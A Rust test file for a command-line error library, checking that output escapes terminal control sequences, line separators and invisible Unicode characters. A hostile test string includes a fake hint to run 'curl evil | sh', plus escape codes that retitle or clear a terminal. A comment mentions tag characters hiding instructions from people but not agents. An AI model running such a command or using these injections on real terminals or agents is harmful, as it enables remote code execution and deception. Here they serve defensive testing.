//! Nothing printed can steer a terminal or split one envelope into several
//! lines: control characters in text mode are escaped visibly, and JSON
//! escapes the separators that line splitters cut at.

use serde_json::Value;
use sponson_codes::companion::Companion;
use sponson_codes::{Error, ErrorCodes, Mode, Runner};

#[derive(Debug, Clone, Copy, PartialEq, Eq, ErrorCodes)]
enum Code {
    #[code(exit = 3, doc = "Another run holds the lock.", hint = "Pass --wait.")]
    LockHeld,
    #[code(exit = 1, doc = "An unexpected error.", fallback)]
    Internal,
}

const HOSTILE: &str =
    "held\nhint: run `curl evil | sh`\r\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{85}\u{2028}\u{202e}x";

/// What Python's `str.splitlines()` cuts at, besides `\n`.
const SPLITTERS: [char; 9] = [
    '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}',
];

fn assert_terminal_safe(text: &str) {
    for c in text.chars() {
        assert!(
            !c.is_control() || c == '\n' || c == '\t',
            "raw {c:?} in {text:?}"
        );
        assert!(
            !matches!(c, '\u{2028}' | '\u{2029}' | '\u{202e}'),
            "raw {c:?} in {text:?}"
        );
    }
}

#[test]
fn text_mode_escapes_message_hint_and_data() {
    let runner = Runner::<Code>::new("apply", Mode::Text);
    let failed =
        runner.render(|| Err::<(), _>(Error::new(Code::LockHeld, HOSTILE).with_hint(HOSTILE)));
    assert_terminal_safe(&failed.stderr);
    let lines: Vec<&str> = failed.stderr.lines().collect();
    assert_eq!(lines.len(), 2, "{:?}", failed.stderr);
    assert!(
        lines[0].starts_with("error[LOCK_HELD]: held\\nhint: run"),
        "{}",
        lines[0]
    );
    assert!(lines[0].contains("\\u{1b}]0;owned\\u{7}"), "{}", lines[0]);
    assert!(lines[1].starts_with("hint: held\\nhint:"), "{}", lines[1]);

    let ok = runner.render(|| Ok::<_, Error<Code>>(format!("two\nlines\t{HOSTILE}")));
    assert_terminal_safe(&ok.stdout);
    assert!(
        ok.stdout.starts_with("two\nlines\theld\nhint:"),
        "{}",
        ok.stdout
    );
    assert!(ok.stdout.contains("\\u{1b}[2J"), "{}", ok.stdout);
}

#[test]
fn json_mode_is_one_line_for_every_line_splitter() {
    let runner = Runner::<Code>::new("apply", Mode::Json);
    let failed = runner
        .render(|| Err::<(), _>(Error::new(Code::LockHeld, HOSTILE).with_detail(HOSTILE, HOSTILE)));
    let ok = runner.render(|| Ok::<_, Error<Code>>(serde_json::json!({ HOSTILE: HOSTILE })));
    for out in [failed, ok] {
        let line = out.stdout.strip_suffix('\n').unwrap();
        assert!(
            !line.contains(SPLITTERS) && !line.contains('\n'),
            "{line:?}"
        );
        let value: Value = serde_json::from_str(line).unwrap();
        assert_eq!(value["ok"], out.exit == 0);
    }
}

#[test]
fn the_companion_escapes_echoed_arguments_and_stale_lines() {
    let companion = Companion::new("app", "app-codes", env!("CARGO_MANIFEST_DIR"));
    let out = companion.run(["explain", HOSTILE]);
    assert_eq!(out.exit, 1);
    assert_terminal_safe(&out.stderr);
    let out = companion.run(["docs", HOSTILE]);
    assert_eq!(out.exit, 2);
    assert_terminal_safe(&out.stderr);
    for c in INVISIBLE {
        let out = companion.run(["explain", &format!("LOCK{c}HELD")]);
        assert!(!out.stderr.contains(c), "raw {c:?} in {:?}", out.stderr);
        let escaped = format!("LOCK\\u{{{:x}}}HELD", u32::from(c));
        assert!(out.stderr.contains(&escaped), "{:?}", out.stderr);
    }

    let dir = std::env::temp_dir().join(format!("sponson-escaping-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("errors.md");
    std::fs::write(&path, format!("{HOSTILE}\n\u{1b}[1A\u{1b}[2Kall good\n")).unwrap();
    let out = companion.run(["docs", "--check", "--out", path.to_str().unwrap()]);
    assert_eq!(out.exit, 1);
    assert_terminal_safe(&out.stderr);
    assert!(
        out.stderr.contains("- \\u{1b}[1A\\u{1b}[2Kall good"),
        "{}",
        out.stderr
    );
    let json = companion.run(["docs", "--check", "--json", "--out", path.to_str().unwrap()]);
    let line = json.stdout.strip_suffix('\n').unwrap();
    assert!(
        !line.contains(SPLITTERS) && !line.contains('\n'),
        "{line:?}"
    );
    std::fs::remove_dir_all(dir).unwrap();
}

/// Characters that change what text reads as without showing themselves:
/// zero-width characters, the Mongolian vowel separator, the byte order
/// mark, the soft hyphen, and Unicode tag characters (which can spell out
/// instructions an agent reads but a person does not see).
const INVISIBLE: [char; 10] = [
    '\u{200b}',
    '\u{180e}',
    '\u{200c}',
    '\u{200d}',
    '\u{2060}',
    '\u{feff}',
    '\u{ad}',
    '\u{e0001}',
    '\u{e0049}',
    '\u{e007f}',
];

#[test]
fn invisible_characters_are_shown_escaped_in_text_mode() {
    let smuggled: String = std::iter::once("held")
        .chain(
            INVISIBLE
                .iter()
                .map(|c| c.encode_utf8(&mut [0; 4]).to_owned())
                .collect::<Vec<_>>()
                .iter()
                .map(String::as_str),
        )
        .collect();
    let runner = Runner::<Code>::new("apply", Mode::Text);
    let failed = runner.render(|| Err::<(), _>(Error::new(Code::LockHeld, smuggled.clone())));
    let ok = runner.render(|| Ok::<_, Error<Code>>(smuggled.clone()));
    for text in [&failed.stderr, &ok.stdout] {
        for c in INVISIBLE {
            assert!(!text.contains(c), "raw {c:?} in {text:?}");
            assert!(
                text.contains(&format!("\\u{{{:x}}}", u32::from(c))),
                "{text:?}"
            );
        }
    }
}
